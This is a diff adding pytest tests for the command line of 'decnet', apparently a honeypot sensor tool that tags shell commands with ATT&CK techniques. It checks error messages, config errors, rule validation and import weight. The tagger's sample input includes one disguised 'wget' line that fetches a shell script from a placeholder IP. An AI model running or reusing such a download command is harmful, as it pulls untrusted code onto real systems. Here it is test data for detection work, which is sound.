@@ -1,0 +1,272 @@
+"""Command lines right and wrong: exit codes, one clear line, places, and what a command loads."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from decnet import __version__
+from tests.programkit import cli, surroundings
+
+LIGHT_MODULES = ("textual", "rich")
+
+
+def _error(*arguments: str | Path) -> str:
+    """The one line that says what is wrong, after a usage error."""
+    done = cli(*arguments)
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert done.stdout == b""
+    said = [line for line in done.stderr.decode().splitlines() if line.lower().startswith("error: ")]
+    assert len(said) == 1, done.stderr.decode()
+    assert "Traceback" not in done.stderr.decode()
+    return said[0]
+
+
+def test_unknown_sensor_kind_names_the_known_ones(tmp_path: Path) -> None:
+    said = _error("--headless", "--sensor", "glutton=/x", "--data-dir", tmp_path / "data")
+    assert "'glutton'" in said
+    assert "cowrie" in said
+    assert not (tmp_path / "data").exists()
+
+
+def test_sensor_without_equals_shows_how_it_is_written(tmp_path: Path) -> None:
+    said = _error("--headless", "--sensor", "/var/log/cowrie.json", "--data-dir", tmp_path / "data")
+    assert "KIND=PATH" in said
+
+
+def test_sensor_with_a_start_that_is_no_date(tmp_path: Path) -> None:
+    assert "ISO date" in _error("--headless", "--sensor", "cowrie=/x,from=monday", "--data-dir", tmp_path)
+
+
+@pytest.mark.parametrize("command", ["tags", "sessions", "attackers", "workers", "deadletters"])
+def test_since_that_is_no_time(command: str, tmp_path: Path) -> None:
+    said = _error(command, "--since", "yesterday", "--data-dir", tmp_path)
+    assert "'yesterday'" in said
+    assert "24h" in said
+
+
+def test_options_that_do_not_go_together(tmp_path: Path) -> None:
+    assert "--headless" in _error("--until-idle", "1", "--data-dir", tmp_path)
+    assert "--attach" in _error("--attach", "--headless", "--data-dir", tmp_path)
+
+
+def test_unknown_key_in_the_config_file_has_its_place(tmp_path: Path) -> None:
+    config = tmp_path / "settings.yaml"
+    config.write_text("bus:\n  stream: X\n  streem: Y\n", "utf-8")
+    said = _error("tags", "--config", config, "--data-dir", tmp_path)
+    assert f"{config}:3:3: " in said
+    assert "streem" in said
+
+
+def test_wrong_value_in_the_config_file_has_its_place(tmp_path: Path) -> None:
+    config = tmp_path / "settings.yaml"
+    config.write_text("runtime:\n  heartbeat_s: soon\n", "utf-8")
+    assert f"{config}:2:3: " in _error("--headless", "--config", config, "--data-dir", tmp_path / "data")
+
+
+@pytest.mark.parametrize(
+    ("text", "place"),
+    [
+        (b"bus: [1,\n", ":2:1"),
+        (b"bus:\n\tstream: X\n", ":2:1"),
+        (b"- a\n", ":1:1"),
+        pytest.param(
+            b"bus: \x01\n",
+            "",
+            marks=pytest.mark.xfail(
+                strict=True, reason="decnet.config does not expect yaml.reader.ReaderError"
+            ),
+        ),
+        (b"bus: \xff\n", ""),
+    ],
+)
+def test_config_file_that_is_no_yaml(text: bytes, place: str, tmp_path: Path) -> None:
+    config = tmp_path / "settings.yaml"
+    config.write_bytes(text)
+    assert f"{config}{place}: " in _error("tags", "--config", config, "--data-dir", tmp_path)
+
+
+def test_config_file_that_is_not_there(tmp_path: Path) -> None:
+    assert str(tmp_path / "none.yaml") in _error("tags", "--config", tmp_path / "none.yaml")
+
+
+def test_a_list_without_database_fails_with_what_to_do(tmp_path: Path) -> None:
+    done = cli("tags", "--json", "--data-dir", tmp_path)
+    assert done.returncode == 1
+    assert done.stdout == b""
+    assert done.stderr.decode().startswith("error: no database in ")
+    assert len(done.stderr.splitlines()) == 1
+
+
+def _answers(stdin: bytes) -> list[dict[str, Any]]:
+    done = cli("tag", "-", stdin=stdin)
+    assert done.returncode == 0, done.stderr.decode()
+    assert done.stderr == b""
+    assert done.stdout.isascii()
+    return [json.loads(line) for line in done.stdout.splitlines()]
+
+
+def _techniques(answer: dict[str, Any]) -> set[str]:
+    return {tag["technique_id"] for tag in answer["tags"]}
+
+
+def test_tag_answers_every_line_in_order() -> None:
+    event = {"source_kind": "command", "source_id": "c1", "payload": {"command_text": "crontab -l"}}
+    lines = [
+        b"",
+        b'{"command_text": "uname -a"}',
+        json.dumps(event).encode(),
+        b"uname \xff\xfe -a",
+        b"   ",
+        b"{broken",
+        b'{"source_kind": 3}',
+        b'{"source_kind": "no such kind", "payload": {}}',
+        b'{"source_kind": "command"}',
+        b"[1, 2]",
+        "wget http://203.0.113.9/\u202ex.sh".encode(),
+        b"a\x0bb\x0cc\x1c\x85\r",
+        b"uname -a",
+    ]
+    answers = _answers(b"\n".join(lines))
+    assert [a["input"] for a in answers] == [line.decode("utf-8", "replace") for line in lines]
+    assert _techniques(answers[0]) == set()
+    assert "T1053" in _techniques(answers[2])
+    assert "T1082" in _techniques(answers[3])
+    assert "T1105" in _techniques(answers[10])
+    assert "T1082" in _techniques(answers[12])
+    for number in (4, 6, 7, 8, 9):
+        assert answers[number]["tags"] == []
+    (tag, *_) = answers[12]["tags"]
+    assert list(tag) == ["rule_id", "technique_id", "sub_technique_id", "tactic", "confidence", "matched"]
+
+
+@pytest.mark.parametrize(("stdin", "count"), [(b"", 0), (b"\n", 1), (b"\n\n", 2), (b"id", 1), (b"id\n", 1)])
+def test_tag_counts_lines_as_wc_does(stdin: bytes, count: int) -> None:
+    assert len(_answers(stdin)) == count
+
+
+def test_tag_takes_a_file_and_says_when_it_cannot_be_read(tmp_path: Path) -> None:
+    commands = tmp_path / "commands"
+    commands.write_text("uname -a\n", "utf-8")
+    assert b"T1082" in cli("tag", commands).stdout
+    done = cli("tag", tmp_path / "none")
+    assert done.returncode == 1
+    assert len(done.stderr.splitlines()) == 1
+
+
+def test_version() -> None:
+    done = cli("--version")
+    assert (done.returncode, done.stdout.decode()) == (0, f"decnet-tui {__version__}\n")
+
+
+def test_doctor_json_judges_every_subject(tmp_path: Path) -> None:
+    done = cli("doctor", "--json", "--data-dir", tmp_path / "data")
+    findings = json.loads(done.stdout)
+    assert {"versions", "sqlite", "data dir", "disk", "rules", "sensors", "terminal", "database", "bus"} <= {f["check"] for f in findings}  # fmt: skip
+    assert all(f["result"] in ("ok", "WARN", "FAIL") and f["detail"] for f in findings)
+    assert done.returncode == int(any(f["result"] == "FAIL" for f in findings))
+    assert not (tmp_path / "data").exists()
+
+
+def test_doctor_fails_on_a_directory_without_rules(tmp_path: Path) -> None:
+    done = cli("doctor", "--json", "--data-dir", tmp_path / "data", "--rules", tmp_path)
+    assert done.returncode == 1
+    (rules,) = [f for f in json.loads(done.stdout) if f["check"] == "rules"]
+    assert rules["result"] == "FAIL"
+    assert "--rules" in rules["detail"]
+
+
+RULE = """\
+rule_id: R9001
+rule_version: 1
+name: test_rule
+description: 'Made up.'
+applies_to: [command]
+match:
+  pattern: '{pattern}'
+emits:
+  - {{tactic: TA0007, technique_id: T1082, confidence: 0.7}}
+evidence_fields: [command_text]
+tests:
+  match: ['{match}']
+  no_match: ['ls']
+"""
+
+
+def test_rules_check_reports_every_error_with_its_place(tmp_path: Path) -> None:
+    files = {
+        "syntax": "rule_id: [\n",
+        "regex": RULE.format(pattern="(", match="uname"),
+        "unknown_key": RULE.format(pattern="uname", match="uname") + "surprise: 1\n",
+        "own_test": RULE.format(pattern="uname", match="whoami").replace("R9001", "R9002"),
+    }
+    for name, text in files.items():
+        (tmp_path / f"{name}.yaml").write_text(text, "utf-8")
+    done = cli("rules", "check", tmp_path)
+    assert done.returncode == 1
+    *said, total = done.stdout.decode().splitlines()
+    assert total.endswith(f", {len(said)} errors")
+    for name in files:
+        located = [line for line in said if f"{tmp_path / name}.yaml:" in line]
+        assert located, (name, said)
+    assert any(f"{tmp_path}/unknown_key.yaml:14:1: " in line for line in said), said
+    assert any(f"{tmp_path}/regex.yaml:7:" in line for line in said), said
+
+    as_json = cli("rules", "check", tmp_path, "--json")
+    assert as_json.returncode == 1
+    problems = json.loads(as_json.stdout)
+    assert len(problems) == len(said)
+    assert all(p["line"] > 0 and p["column"] > 0 and p["error"] for p in problems)
+
+
+def test_rules_check_passes_on_the_rules_in_use(tmp_path: Path) -> None:
+    done = cli("rules", "check", "--data-dir", tmp_path)
+    assert done.returncode == 0, done.stdout.decode()
+    assert done.stdout.endswith(b" rules, 0 errors\n")
+
+
+def test_rules_check_on_no_directory(tmp_path: Path) -> None:
+    done = cli("rules", "check", tmp_path / "none")
+    assert done.returncode == 1
+    assert len(done.stderr.splitlines()) == 1
+
+
+def _loaded_by(code: str) -> str:
+    """Which of the terminal libraries are loaded after ``code``."""
+    ending = f"import sys; print([m for m in sys.modules if m.split('.')[0] in {LIGHT_MODULES!r}])"
+    done = subprocess.run(
+        [sys.executable, "-c", f"{code}\n{ending}"], input="id\n", capture_output=True, text=True, check=False, env=surroundings()
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    return done.stdout.splitlines()[-1]
+
+
+@pytest.mark.parametrize("module", ["decnet", "decnet.config", "decnet.ttp.offline"])
+def test_light_modules_load_no_terminal_library(module: str) -> None:
+    assert _loaded_by(f"import {module}") == "[]"
+
+
+def test_no_module_of_the_engine_loads_the_console_library() -> None:
+    everything = (
+        "import decnet, importlib, pkgutil\n"
+        "for m in pkgutil.walk_packages(decnet.__path__, 'decnet.'):\n"
+        "    '.migrations.' in m.name or importlib.import_module(m.name)"
+    )
+    assert "textual" not in _loaded_by(everything)
+
+
+@pytest.mark.parametrize("arguments", [["tag", "-"], ["--headless", "--help"], ["tags", "--help"]])
+def test_headless_commands_start_without_the_console_library(arguments: list[str]) -> None:
+    code = f"from decnet_tui.cli.main import app\napp({arguments!r}, standalone_mode=False)"
+    assert "textual" not in _loaded_by(code)
+
+
+def test_the_daemon_works_without_the_console_library(tmp_path: Path) -> None:
+    arguments = ["--headless", "--until-idle", "0", "--data-dir", str(tmp_path / "data")]
+    code = f"from decnet_tui.cli.main import app\napp({arguments!r}, standalone_mode=False)"
+    assert "textual" not in _loaded_by(code)
